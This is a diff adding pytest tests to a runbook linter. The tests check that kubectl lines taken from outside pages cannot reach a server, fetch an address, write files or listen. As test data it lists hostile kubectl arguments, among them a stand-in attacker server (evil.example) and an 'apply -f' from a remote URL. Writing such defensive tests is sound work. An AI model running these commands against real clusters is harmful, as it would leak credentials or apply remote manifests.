@@ -3,13 +3,16 @@
 from __future__ import annotations
 
 import json
+import os
 import shutil
+import socket
 from pathlib import Path
 
 import pytest
 
 from console.cli import main
 from console.lint.finding import Level
+from console.lint.pages.kubectl import Answer, Kubectl
 from console.lint.pages.linter import TRAPS, Linted, lint
 from console.runbooks import RunbookIndex
 from queries.rule_files import read_rules
@@ -253,6 +256,49 @@ def test_without_kubectl_it_is_said_what_was_not_checked(
     assert main(["runbook", "--lint", "--format", "json"]) == 0
     told = json.loads(capsys.readouterr().out)
     assert (told["kubectl"], told["kubectl_lines"], told["kubectl_lines_unchecked"]) == ("", 4, 4)
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "get pods --server=evil.example",
+        "get pods -s evil.example",
+        "get pods -sevil.example",
+        "get pods -Asevil.example",
+        "get pods --kubeconfig x",
+        "get -n -- --server=evil.example pods",
+        "get pods --profile=cpu --profile-output=/tmp/x",
+        "apply -f http://evil.example/x.yaml",
+        "proxy --port 0",
+        "config set-context x",
+    ],
+)
+def test_no_page_can_make_kubectl_reach_or_write_anything(words: str) -> None:
+    """A page from elsewhere gets no line run that names a server, writes a file, fetches an address or listens."""
+    answer = Kubectl("/bin/false", 1, "/nonexistent").answer(("kubectl", *words.split()))
+    assert "names a server" in answer.problem or answer.unchecked.startswith(("kubectl ", "--profile writes")), answer
+    assert "cannot be run" not in answer.unchecked
+
+
+def test_nothing_answers_where_kubectl_asks(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    """The port is held and refuses; kubectl sees no plugin, no home and no kubeconfig of the person, whatever the verb."""
+    if shutil.which("kubectl") is None:
+        pytest.skip("kubectl is not here")
+    plugin = tmp_path / "kubectl-gett"
+    plugin.write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\n")
+    plugin.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
+    monkeypatch.setenv("KUBECONFIG", str(tmp_path / "own"))
+    with Kubectl.open() as kubectl:
+        assert kubectl is not None
+        with socket.socket() as other, pytest.raises(OSError):
+            other.bind(("127.0.0.1", kubectl.port))
+        with socket.socket() as other, pytest.raises(ConnectionRefusedError):
+            other.connect(("127.0.0.1", kubectl.port))
+        assert kubectl.answer(("kubectl", "gett", "pods")).problem
+        assert kubectl.answer(("kubectl", "delete", "pod", "x")) == Answer()
+        assert kubectl.answer(("kubectl", "exec", "deploy/x", "--", "curl", "-s", "http://localhost/health")) == Answer()
+    assert not (tmp_path / "ran").exists()
 
 
 def test_every_trap_is_planted() -> None:
